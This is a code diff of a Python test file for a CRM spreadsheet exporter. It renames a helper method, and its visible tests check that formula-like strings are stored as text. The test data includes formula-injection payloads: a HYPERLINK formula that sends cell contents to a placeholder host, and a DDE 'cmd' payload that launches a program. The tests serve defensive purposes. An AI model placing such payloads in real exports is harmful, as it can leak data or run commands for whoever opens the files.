@@ -17,7 +17,7 @@ FORMULA_TEXTS = ['=HYPERLINK("http://x?"&A2,"click")', "+1", "-2", "@SUM(A1)"]
 class TestXlsxWriter(SmartCrmCase):
 
     @staticmethod
-    def read(content):
+    def read_book(content):
         return openpyxl.load_workbook(io.BytesIO(content))
 
     def test_text_is_never_a_formula(self):
@@ -28,7 +28,7 @@ class TestXlsxWriter(SmartCrmCase):
             sheet.text(row, 0, text)
         # write() of the library, too, keeps texts as texts in our workbooks
         sheet.sheet.write(len(FORMULA_TEXTS) + 1, 0, "=1+1")
-        ws = self.read(workbook.close()).active
+        ws = self.read_book(workbook.close()).active
         cells = [ws.cell(row, 1) for row in range(2, len(FORMULA_TEXTS) + 3)]
         self.assertEqual([cell.value for cell in cells], [*FORMULA_TEXTS, "=1+1"])
         for cell in cells:
@@ -49,7 +49,7 @@ class TestXlsxWriter(SmartCrmCase):
         sheet.value(2, 1, 3)
         sheet.value(2, 4, datetime.date(2025, 4, 1))
         sheet.value(2, 6, False)
-        book = self.read(workbook.close())
+        book = self.read_book(workbook.close())
         self.assertEqual(book.sheetnames, ["Customers   all "])
         ws = book.active
         self.assertEqual(ws.freeze_panes, "A2")
@@ -73,7 +73,7 @@ class TestXlsxWriter(SmartCrmCase):
         self.customer.name = "=1+1"
         for col, name in enumerate(["name", "country_id", "is_company", "partner_latitude"]):
             sheet.record_cell(1, col, self.customer, Partner._fields[name])
-        ws = self.read(workbook.close()).active
+        ws = self.read_book(workbook.close()).active
         self.assertEqual([c.value for c in ws[2]], ["=1+1", "Japan", False, 0])
         self.assertEqual(ws["A2"].data_type, "s")
 
@@ -82,7 +82,7 @@ class TestXlsxWriter(SmartCrmCase):
         rejects = workbook.add_rejects_sheet(self.env, ["Name", "Amount", "Day"])
         rejects.add(["=cmd|' /C calc'!A0", 12, datetime.date(2025, 1, 2)], "Amount: too big")
         rejects.add(["@SUM(A1)"], "Day: missing")
-        ws = self.read(workbook.close()).active
+        ws = self.read_book(workbook.close()).active
         self.assertEqual(ws.title, "Rejected rows")
         self.assertEqual([[c.value for c in row] for row in ws.iter_rows()], [
             ["Name", "Amount", "Day", "Reason"],
